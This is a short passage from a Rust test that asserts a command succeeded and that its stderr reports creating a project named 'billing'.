    assert!(out.status.success(), "{err}");
    assert!(err.contains("Creating project `billing`"), "{err}");
}
